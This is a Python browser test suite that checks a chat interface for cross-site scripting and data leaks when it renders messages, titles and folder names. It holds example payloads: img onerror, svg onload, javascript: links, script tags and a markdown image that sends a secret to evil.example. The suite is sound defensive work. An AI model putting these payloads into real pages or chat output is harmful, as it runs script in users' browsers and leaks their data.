"""Nothing that a model or a person writes runs a script or sends a request (SAFE-1 to SAFE-10)."""

from __future__ import annotations

import re
from typing import Any

import pytest
from tests.web.conftest import Visit, ask, settled
from tests.web.fake.house import House
from tests.web.fake.server import BUILT, POLICY
from tests.web.payloads import ALL, RUN

pytestmark = [pytest.mark.browser, pytest.mark.slow]

LOOK = """() => {
    const bad = [];
    for (const element of document.querySelectorAll('.md *, .bubble *')) {
        if (element.closest('.tex')) continue;
        for (const { name } of element.attributes)
            if (name.startsWith('on') || ['srcset', 'style', 'formaction', 'xlink:href'].includes(name)) bad.push(name);
        if (/^(script|iframe|object|embed|img|form|meta|base|link|style|video|audio|input|svg)$/i.test(element.tagName))
            bad.push(element.tagName);
        if (element.tagName === 'A') {
            const href = element.getAttribute('href');
            if (href !== null && !/^(https?:|mailto:|#m\\d+-)/i.test(href)) bad.push(href);
            if (href !== null && !href.startsWith('#') && !element.rel.includes('noopener')) bad.push('rel of ' + href);
        }
    }
    const within = '.tex a, .tex img, .tex script, .tex [onclick], .tex [onmouseover]';
    for (const one of document.querySelectorAll(within)) bad.push(one.outerHTML);
    return [bad, window.pwned];
}"""


def check(page: Any) -> None:
    bad, pwned = page.evaluate(LOOK)
    assert bad == []
    assert pwned is None


def test_there_are_enough_of_them() -> None:
    assert len(set(ALL)) >= 100


def test_no_payload_runs_or_calls_home_in_a_stored_chat(visit: Visit, house: House) -> None:
    """As answers, as questions, and as titles, all of them; the fixture refuses requests, dialogs and script errors."""
    for begin in range(0, len(ALL), 40):
        chat, parent = house.new_chat(title=ALL[begin]), None
        for text in ALL[begin : begin + 40]:
            user = house.new_message(chat["id"], "user", text, parent)
            parent = house.new_message(chat["id"], "assistant", text, user["id"], model="smollm2")["id"]
    for text in ALL[:30]:
        house.new_chat(title=text)
        house.folders[f"folder_{len(house.folders)}"] = {
            "id": f"folder_{len(house.folders)}", "parent_id": None, "name": text, "position": 0,
        }  # fmt: skip
    with visit(house) as page:
        for chat in list(house.chats.values())[:3]:
            page.goto(f"{page.address}/c/{chat['id']}")
            settled(page, 25)
            page.wait_for_function(  # the earlier pages, and what is only drawn in view
                """n => {
                    document.querySelector('.scroll').scrollTop = 0;
                    document.querySelectorAll('article').forEach(a => a.style.contentVisibility = 'visible');
                    return document.querySelectorAll('[data-message]').length === n;
                }""",
                arg=sum(m["chat_id"] == chat["id"] for m in house.messages.values()),
                polling=50,
            )
            page.wait_for_timeout(300)  # what runs once it is drawn would run by now
            check(page)


@pytest.mark.parametrize(
    "text",
    [
        f"Look <img src=x onerror={RUN}> and [x](javascript:{RUN}) and <svg onload={RUN}>",
        "One ![x](https://evil.example/leak?q=secret) two",
        f"```html\n<script>{RUN}</script>\n```\n\n| <img src=x onerror={RUN}> |\n|---|\n| b |",
        "$\\href{javascript:x}{x}$ and <math><mtext></p>",
    ],
)
def test_nothing_runs_while_a_payload_is_being_written(visit: Visit, house: House, text: str) -> None:
    """Each letter is a piece, so that every tag is cut everywhere."""
    house.letters = True
    with visit(house) as page:
        ask(page, f"xss:{text}")
        page.locator("[data-role=assistant]").wait_for()
        for _ in range(6):
            check(page)
            page.wait_for_timeout(60)
        settled(page)
        check(page)


def test_an_image_from_elsewhere_is_offered_and_not_fetched(visit: Visit, house: House) -> None:
    with visit(house) as page:
        ask(page, "remote image please")
        answer = settled(page)
        assert answer.locator("img").count() == 0
        answer.get_by_role("link", name="Open the image at evil.example").click()
        dialog = page.get_by_role("dialog", name="Open evil.example?")
        assert "https://evil.example/cat.png?leak=secret" in dialog.inner_text()
        dialog.get_by_role("button", name="Cancel").click()
        assert len(page.context.pages) == 1


def test_a_link_to_a_host_that_the_person_named_is_followed(visit: Visit, house: House) -> None:
    chat = house.new_chat(title="links")
    user = house.new_message(chat["id"], "user", "What is at named.example?", None)
    text = "[go](https://named.example/page) or [away](https://other.example/)"
    house.new_message(chat["id"], "assistant", text, user["id"])
    with visit(house, f"/c/{chat['id']}", strict=False) as page:
        page.context.route("https://named.example/**", lambda route: route.fulfill(body="there"))
        answer = settled(page)
        with page.context.expect_page() as opened:
            answer.get_by_role("link", name="go").click()
        assert opened.value.evaluate("window.opener") is None
        answer.get_by_role("link", name="away").click()
        page.get_by_role("dialog", name="Open other.example?").wait_for()


def test_the_page_works_under_its_policy(visit: Visit, house: House) -> None:
    """Code, formulas and dialogs need nothing that the policy forbids; the fixture fails on any refusal."""
    assert "unsafe-eval" not in POLICY
    with visit(house) as page:
        ask(page, "code")
        settled(page).locator(".hljs-keyword").first.wait_for()
        ask(page, "math")
        settled(page, 2).locator(".katex").first.wait_for()
    index = (BUILT / "index.html").read_text(encoding="utf-8")
    assert re.findall(r"<script(?![^>]* src=)", index) == []
    assert "http://" not in index
    assert "https://" not in index


def test_a_formula_that_never_ends_is_shown_as_text(visit: Visit, house: House) -> None:
    with visit(house) as page:
        ask(page, "xss:$\\def\\a{\\a\\a}\\a$ and $" + "x" * 12_000 + "$ then more")
        answer = settled(page)
        assert "then more" in answer.inner_text()
        page.locator("#question").fill("the page still answers")
        assert page.locator("button.send").is_enabled()


def test_what_is_typed_is_never_html(visit: Visit, house: House) -> None:
    with visit(house) as page:
        ask(page, "<b>bold</b> & <i>more</i>")
        settled(page)
        assert page.locator(".bubble").inner_text() == "<b>bold</b> & <i>more</i>"
        page.keyboard.press("Control+k")
        page.keyboard.type("<b>bold")
        page.locator("mark").first.wait_for()
        assert page.locator("mark").first.inner_text() == "<b>bold"
